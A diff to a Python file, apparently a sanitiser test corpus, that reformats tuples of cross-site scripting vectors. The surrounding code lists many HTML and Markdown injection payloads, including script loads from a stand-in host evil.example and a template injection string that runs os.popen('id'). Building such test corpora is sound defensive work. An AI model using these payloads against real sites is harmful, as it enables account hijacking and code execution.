@@ -26,7 +26,18 @@ _TAGS = (
     "img src=x", "svg", "body", "iframe src=//evil.example/", "input autofocus", "select autofocus", "textarea autofocus", "video src=//evil.example/v", "audio src=//evil.example/a", "object data=//evil.example/o", "embed src=//evil.example/e", "details open", "marquee", "a href=# tabindex=1", "div", "math", "style", "link rel=stylesheet href=//evil.example/c.css",
     "form action=//evil.example/", "button", "table background=//evil.example/b", "bgsound src=//evil.example/s", "keygen autofocus", "isindex", "meter", "xss id=x tabindex=1", "custom-element", "track src=//evil.example/t", "source srcset=//evil.example/s", "frameset", "dialog open", "canvas", "noscript", "template", "picture", "portal src=//evil.example/",
 )  # fmt: skip
-_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onstart")
+_EVENTS = (
+    "onerror",
+    "onload",
+    "onfocus",
+    "onmouseover",
+    "onclick",
+    "ontoggle",
+    "onanimationstart",
+    "onpointerenter",
+    "onbegin",
+    "onstart",
+)
 _FORMS = ("<{t} {e}=alert(1)>", '<{t} {e}="alert(1)">', "<{t}/{e}=alert(1)//", "</p><{t} {e}=alert(1)>")
 _MARKUP = (
     "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<<script>alert(1)//<</script>", "<script>alert(1)", "</title><script>alert(1)</script>",
@@ -40,7 +51,26 @@ _MARKUP = (
     "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% for x in range(9) %}x{% endfor %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{# x #}", "{% raw %}{{ x }}", "{{ config }}", "#{7*7}", "<%= 7*7 %>", "${7*7}", "{{constructor.constructor('alert(1)')()}}", "{{=alert(1)}}", "[[${alert(1)}]]", "<x v-on:click=alert(1)>", "<x ng-app>{{$eval.constructor('alert(1)')()}}", "<x hx-get=//evil.example/ hx-trigger=load>",
     "<script type=module>import '//evil.example/x.js'</script>", "<script type=importmap>{\"imports\":{\"x\":\"//evil.example/\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example/\"]}]}</script>", "<img id=location><a id=document name=cookie>", "<form id=words><input name=site>", "<a id=SIDAN><a id=SIDAN name=x href=javascript:alert(1)>",
 )  # fmt: skip
-_WRAPPED = ("{v}", "> {v}", "- {v}", "1. {v}", "# {v}", "|a|\n|-|\n|{v}|", "**{v}**", "`{v}`", "```\n{v}\n```", "```{v}\nx\n```", "    {v}", "[{v}](http://good.example)", "[x](http://good.example/{v})", '[x](http://good.example "{v}")', "![{v}](http://evil.example/b)", "<http://good.example/{v}>", "\\{v}", "~~{v}~~")
+_WRAPPED = (
+    "{v}",
+    "> {v}",
+    "- {v}",
+    "1. {v}",
+    "# {v}",
+    "|a|\n|-|\n|{v}|",
+    "**{v}**",
+    "`{v}`",
+    "```\n{v}\n```",
+    "```{v}\nx\n```",
+    "    {v}",
+    "[{v}](http://good.example)",
+    "[x](http://good.example/{v})",
+    '[x](http://good.example "{v}")',
+    "![{v}](http://evil.example/b)",
+    "<http://good.example/{v}>",
+    "\\{v}",
+    "~~{v}~~",
+)
 
 
 def vectors() -> tuple[str, ...]:
